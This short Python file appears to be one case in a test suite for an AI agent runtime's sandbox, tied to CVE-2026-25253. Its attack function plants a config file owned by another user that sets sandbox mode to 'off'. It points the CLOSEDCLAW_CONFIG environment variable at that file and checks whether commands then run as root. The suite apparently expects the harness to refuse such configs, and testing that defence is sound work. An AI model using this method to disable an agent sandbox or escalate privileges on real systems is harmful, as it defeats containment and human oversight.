"""CLOSEDCLAW_CONFIG in the environment of the call names a configuration of another user's, which switches the sandbox off."""

import json
import os

from bypass import refused

SOURCE = "CVE-2026-25253: a sandbox that is switched off from outside"
WAY = "arguments"
STOPPED = refused("config-owner")


def attack(t):
    settings = {"runtime": {"lowLevel": ["/usr/bin/" + t.low]}, "agents": {"defaults": {"sandbox": {"mode": "off"}}}}
    path = t.write("/home/other/closedclaw.json5", json.dumps(settings))
    os.chown(path, 1000, 1000)
    t.around = ["env", "CLOSEDCLAW_CONFIG=" + path]
    return t.run("id -u").strip() == "0" and "uid 0"
